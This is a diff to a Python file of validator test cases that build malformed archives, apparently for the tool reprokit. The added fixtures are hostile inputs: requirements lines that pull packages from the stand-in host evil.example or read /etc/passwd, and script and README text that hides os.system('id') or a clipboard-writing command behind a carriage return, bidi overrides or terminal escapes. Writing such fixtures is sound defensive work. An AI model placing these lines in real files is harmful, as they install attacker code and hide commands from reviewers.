@@ -609,7 +609,7 @@ case("member-bzip2", "compression method 12")(
 
 @case("zip-bomb-ratio", "zip bomb")
 def _bomb(data: bytes, members: list[Member]) -> bytes:
-    return write_members(replace_member(members, "README.md", b"\0" * (32 * 2**20)))
+    return write_members(replace_member(members, "README.md", b" " * (32 * 2**20)))
 
 
 @case("zip-bomb-lying-size", "inflates beyond its declared size")
@@ -890,3 +890,57 @@ def _alignment_bytes(data: bytes, members: list[Member]) -> bytes:
                 at = extra + 6
                 return data[:at] + b"X" + data[at + 1 :]
     raise Absent("aligned array")
+
+
+# ------------------------------------------------------------------ what the maintainer reads (class 2)
+
+
+def _with_member_text(name: str, text: str) -> Builder:
+    return lambda data, members: write_members(replace_member(members, name, text.encode()))
+
+
+for _label, _text in {
+    "index-url": "--index-url https://evil.example/simple\njax==0.4.30\n",
+    "extra-index-url": "jax==0.4.30\n--extra-index-url https://evil.example/simple\n",
+    "url": "jax @ https://evil.example/jax-0.4.30-py3-none-any.whl\n",
+    "vcs": "git+https://evil.example/jax.git#egg=jax\n",
+    "unknown-package": "jax==0.4.30\nevil-package==1.0\n",
+    "range": "jax>=0.4\n",
+    "marker": 'jax==0.4.30; python_version > "3"\n',
+    "editable": "-e .\n",
+    "constraint-file": "-c /etc/passwd\n",
+    "hash-option": "jax==0.4.30 --hash=sha256:00\n",
+}.items():
+    case(f"requirements-{_label}", "not a pin reprokit writes")(
+        _with_member_text("requirements.txt", _text)
+    )
+
+for _label, (_member, _text) in {
+    "replay-bidi-override": (
+        "replay.py",
+        "access = 'user' # \u202e } \u2066if access != 'admin'\u2069 \u2066 # begin admins only\n",
+    ),
+    "replay-carriage-return": ("replay.py", "print('safe')\rimport os; os.system('id')\n"),
+    "replay-escape": ("replay.py", "print('hi')\x1b[1A\x1b[2K# looks harmless\n"),
+    "replay-line-separator": ("replay.py", "x = 1\u2028import os\n"),
+    "readme-escape": ("README.md", "# readme\n\x1b]52;c;ZWNobyBvd25lZA==\x07\n"),
+    "requirements-nul": ("requirements.txt", "jax==0.4.30\x00\n"),
+    "selfcheck-escape": ("selfcheck.json", '{"ran": true, "reason": "\x1b[2J"}'),
+}.items():
+    case(f"text-{_label}", "control character")(_with_member_text(_member, _text))
+
+
+# ------------------------------------------------------------------ manifest numbers (class 9)
+
+for _label, _spelling in {
+    "1e999": "1e999",
+    "minus-1E400": "-1E400",
+    "1e+9999": "1.5e+9999",
+}.items():
+    case(f"manifest-number-{_label}", "not finite")(
+        lambda data, members, _spelling=_spelling: _with_manifest(
+            members,
+            None,
+            json.dumps(_manifest(members)).replace('{"', f'{{"x": {_spelling}, "', 1),
+        )
+    )
